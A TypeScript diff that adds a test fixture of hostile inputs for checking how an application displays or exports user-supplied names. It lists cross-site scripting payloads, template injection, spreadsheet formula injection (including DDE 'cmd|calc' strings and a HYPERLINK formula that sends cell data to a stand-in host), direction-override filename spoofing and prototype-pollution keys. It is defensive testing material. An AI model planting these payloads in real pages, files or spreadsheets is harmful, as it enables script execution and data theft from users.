@@ -104,3 +104,46 @@ const pieces: Readonly<Record<string, string>> = {
 export function hostileTexts(length: number): { name: string; text: string }[] {
   return Object.entries(pieces).map(([name, piece]) => ({ name, text: piece.repeat(Math.ceil(length / piece.length)).slice(0, length) }));
 }
+
+/**
+ * Names and titles a site may choose to attack whoever shows or exports them. Short, one for each trick; what shows or writes foreign
+ * text is run through all of them.
+ */
+export const hostilePayloads: Readonly<Record<string, string>> = {
+  'a script': '<script>alert(1)</script>',
+  'an image with a handler': '<img src=x onerror="alert(1)">',
+  'the end of an attribute': '"><svg onload=alert(1)>',
+  'the end of an attribute in single quotes': "' onmouseover='alert(1)",
+  'the end of a comment': '--><script>alert(1)</script><!--',
+  'the end of a table': '</td></tr></table><iframe src="javascript:alert(1)"></iframe>',
+  'the end of a text area': '</textarea></title></style><script>alert(1)</script>',
+  'an address that is a script': 'javascript:alert(1)',
+  'an entity': '&lt;b&gt;&#60;script&#62;',
+  'a template': '{{constructor.constructor("alert(1)")()}}<%= 7*7 %>',
+  'a formula': '=HYPERLINK("https://angriff.test/?"&A1,"Klick")',
+  'a formula with plus': "+cmd|' /C calc'!A0",
+  'a formula with minus': '-2+3+cmd|calc',
+  'a formula with at': '@SUM(1+1)*cmd|calc',
+  'a formula after a tab': '\t=1+1',
+  'a formula after a line end': '\r\n=1+1',
+  'a formula after spaces': '   =1+1',
+  'a formula after a no-break space': '\u00a0=1+1',
+  'a formula after a quotation mark': '"=1+1',
+  'a formula after a hidden mark': '\u200b\ufeff=1+1',
+  'a formula in wide letters': '\uff1d1+1',
+  'a formula behind separators': 'a;=1+1,=1+1\t=1+1',
+  'quotation marks': '""\'\'„“»«',
+  'line breaks': 'eins\nzwei\r\ndrei\rvier\u2028fünf\u2029sechs',
+  'a null character': 'vor\u0000nach',
+  'control characters': '\u001b[31mrot\u0007\u0008\u007f\u0085',
+  'text turned round': 'harmlos\u202egpj.exe\u202c',
+  'marks of direction': '\u200fabc\u2066def\u2069\u061c',
+  'half a pair': 'a\ud800b\udc00',
+  'no character': 'a\ufffeb\uffff',
+  'markup of a table': 'a | b | `c` | *d* | [e](javascript:alert(1)) \\| ![f](https://angriff.test/g.png)',
+  'the end of code': '`` ``` `<b>`',
+  'a link that looks harmless': '[Datenschutz](javascript:alert(1)) <https://angriff.test>',
+  'a name of every object': '__proto__',
+  'a name of every function': 'constructor',
+  'a long name': 'x'.repeat(5_000),
+};
